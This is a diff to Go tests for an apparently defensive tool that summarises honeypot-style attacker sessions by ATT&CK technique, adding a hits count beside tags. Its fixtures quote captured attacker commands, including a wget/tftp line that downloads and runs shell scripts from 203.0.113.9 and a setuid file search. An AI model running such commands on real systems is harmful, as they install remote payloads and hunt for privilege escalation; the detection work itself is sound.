@@ -56,15 +56,26 @@ func TestSummaryTechniques(t *testing.T) {
 	}
 	e := attack.Enterprise
 	want := []TechniqueCount{
-		{"TA0011", "T1105", e, 3, Count{N: 2}, Count{N: 3}, at(18, 7, 0, 0, 0), at(19, 1, 2, 59, 9e8), []string{"R0017", "R0018"},
+		{"TA0011", "T1105", e, Count{N: 3}, 3, Count{N: 2}, Count{N: 3}, at(18, 7, 0, 0, 0), at(19, 1, 2, 59, 9e8), []string{"R0017", "R0018"},
 			"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh", Count{}},
-		{"TA0006", "T1110.001", e, 2, Count{N: 1}, Count{N: 1}, at(18, 10, 28, 0, 0), at(18, 10, 28, 0, 0), []string{"R0002"}, "password_count=12", Count{}},
-		{"TA0007", "T1083", e, 1, Count{N: 1}, Count{N: 1}, at(18, 10, 27, 0, 0), at(18, 10, 27, 0, 0), []string{"R0014"}, "ls \x1b[31m", Count{}},
-		{"TA0004", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "find / -perm -4000", Count{}},
-		{"TA0005", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "n=1", Count{}},
+		{"TA0006", "T1110.001", e, Count{N: 2}, 2, Count{N: 1}, Count{N: 1}, at(18, 10, 28, 0, 0), at(18, 10, 28, 0, 0), []string{"R0002"}, "password_count=12", Count{}},
+		{"TA0007", "T1083", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, at(18, 10, 27, 0, 0), at(18, 10, 27, 0, 0), []string{"R0014"}, "ls \x1b[31m", Count{}},
+		{"TA0004", "T1548.001", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "find / -perm -4000", Count{}},
+		{"TA0005", "T1548.001", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "n=1", Count{}},
 	}
 	if diff := cmp.Diff(want, s.Techniques()); diff != "" {
 		t.Errorf("Techniques() (-want +got):\n%s", diff)
+	}
+}
+
+// What a script repeats is one hit of a rule in a session.
+func TestSummaryHits(t *testing.T) {
+	s := NewSummary(attack.Load())
+	for _, tag := range []struct{ rule, session string }{{"R1", "s1"}, {"R1", "s1"}, {"R2", "s1"}, {"R1", "s2"}, {"R1", ""}, {"R1", ""}} {
+		s.Add([]event.Tag{seen("TA0007", "T1082", tag.rule, "a", tag.session, "", "{}")})
+	}
+	if got := s.Techniques()[0]; got.Hits != (Count{N: 5}) || got.Tags != 6 || got.Sessions != (Count{N: 2}) {
+		t.Errorf("%+v, want 5 hits in 6 tags, 2 sessions", got)
 	}
 }
 
@@ -179,16 +190,16 @@ func TestSummaryText(t *testing.T) {
 		{0, `
 4 techniques in 8 tags, 3 attackers, 4 sessions, 2026-03-18 07:00 to 2026-03-19 01:02 UTC
 
-TAGS  TECHNIQUE  NAME                                                  TACTIC                ATTACKERS  SESSIONS  FIRST SEEN        LAST SEEN         RULES
-   3  T1105      Ingress Tool Transfer                                 Command and Control           2         3  2026-03-18 07:00  2026-03-19 01:02  R0017, R0018
+HITS  TECHNIQUE  NAME                                                  TACTIC                ATTACKERS  SESSIONS  TAGS  FIRST SEEN        LAST SEEN         RULES
+   3  T1105      Ingress Tool Transfer                                 Command and Control           2         3     3  2026-03-18 07:00  2026-03-19 01:02  R0017, R0018
       cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh
-   2  T1110.001  Brute Force: Password Guessing                        Credential Access             1         1  2026-03-18 10:28  2026-03-18 10:28  R0002
+   2  T1110.001  Brute Force: Password Guessing                        Credential Access             1         1     2  2026-03-18 10:28  2026-03-18 10:28  R0002
       password_count=12
-   1  T1083      File and Directory Discovery                          Discovery                     1         1  2026-03-18 10:27  2026-03-18 10:27  R0014
+   1  T1083      File and Directory Discovery                          Discovery                     1         1     1  2026-03-18 10:27  2026-03-18 10:27  R0014
       ls \x1b[31m
-   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Privilege Escalation          1         1                                      R0015
+   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Privilege Escalation          1         1     1                                      R0015
       find / -perm -4000
-   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Stealth                       1         1                                      R0015
+   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Stealth                       1         1     1                                      R0015
       n=1
 
 TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
@@ -200,26 +211,28 @@ TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
 4 techniques in 8 tags, 3 attackers, 4 sessions, 2026-03-18 07:00 to 2026-03-19
 01:02 UTC
 
-TAGS  TECHNIQUE  NAME                TACTIC        ATTACKERS  SESSIONS  RULES
+HITS  TECHNIQUE  NAME                TACTIC        ATTACKERS  SESSIONS  RULES
    3  T1105      Ingress Tool        Command and           2         3  R0017,
                  Transfer            Control                            R0018
-      first seen 2026-03-18 07:00; last seen 2026-03-19 01:02
+      tags 3; first seen 2026-03-18 07:00; last seen 2026-03-19 01:02
       cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.s…
    2  T1110.001  Brute Force:        Credential            1         1  R0002
                  Password Guessing   Access
-      first seen 2026-03-18 10:28; last seen 2026-03-18 10:28
+      tags 2; first seen 2026-03-18 10:28; last seen 2026-03-18 10:28
       password_count=12
    1  T1083      File and Directory  Discovery             1         1  R0014
                  Discovery
-      first seen 2026-03-18 10:27; last seen 2026-03-18 10:27
+      tags 1; first seen 2026-03-18 10:27; last seen 2026-03-18 10:27
       ls \x1b[31m
    1  T1548.001  Abuse Elevation     Privilege             1         1  R0015
                  Control Mechanism:  Escalation
                  Setuid and Setgid
+      tags 1
       find / -perm -4000
    1  T1548.001  Abuse Elevation     Stealth               1         1  R0015
                  Control Mechanism:
                  Setuid and Setgid
+      tags 1
       n=1
 
 TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
@@ -241,8 +254,8 @@ func TestSummaryTextOneAttacker(t *testing.T) {
 	const want = `
 1 technique in 1 tag, 1 attacker, 1 session, 2026-03-18 10:26 to 2026-03-18 10:26 UTC
 
-TAGS  TECHNIQUE  NAME                   TACTIC               ATTACKERS  SESSIONS  FIRST SEEN        LAST SEEN         RULES
-   1  T1105      Ingress Tool Transfer  Command and Control          1         1  2026-03-18 10:26  2026-03-18 10:26  R0018
+HITS  TECHNIQUE  NAME                   TACTIC               ATTACKERS  SESSIONS  TAGS  FIRST SEEN        LAST SEEN         RULES
+   1  T1105      Ingress Tool Transfer  Command and Control          1         1     1  2026-03-18 10:26  2026-03-18 10:26  R0018
       cd /tmp; wget http://203.0.113.9/x.sh
 `
 	got := write(t, "table", Options{}, nil, []event.Tag{download()})
